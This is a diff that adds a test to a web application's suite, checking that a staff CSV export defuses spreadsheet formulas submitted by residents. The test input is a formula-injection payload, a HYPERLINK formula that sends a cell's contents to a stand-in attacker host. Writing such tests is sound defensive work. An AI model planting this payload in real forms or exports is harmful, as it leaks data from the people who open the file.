@@ -199,3 +199,19 @@ def test_the_command_line_never_prints_control_or_bidi_characters(
     assert listed.returncode == 0, listed.stderr
     assert "Buses[2J stop early" in listed.stdout  # the ESC is gone, so is its effect
     assert not any(ch in listed.stdout for ch in "\x1b\x07\u202e\r")
+
+
+async def test_the_dashboard_export_defuses_formulas(db: Engine) -> None:
+    from tests.web_helpers import OFFICER, WebResident, sign_in, web_client, web_config
+    from tests.web_helpers import complete_example as complete_on_the_web
+
+    config = web_config()
+    formula = '=HYPERLINK(CONCAT("ht","tps://evil.example/",A2),"Council info")'
+    async with web_client(db, config) as client:
+        await complete_on_the_web(WebResident(client), need=formula)
+        client.session.cookie_jar.clear()
+        await sign_in(client, db, config, OFFICER)
+        exported = await (await client.get("/staff/c/example/export.csv")).text()
+    answers = [r["answer"] for r in csv.DictReader(io.StringIO(exported))]
+    assert any(a.startswith("'=HYPERLINK(CONCAT") for a in answers), answers  # scrubbed or not
+    assert not any(a[:1] in ("=", "+", "-", "@") for a in answers if a)
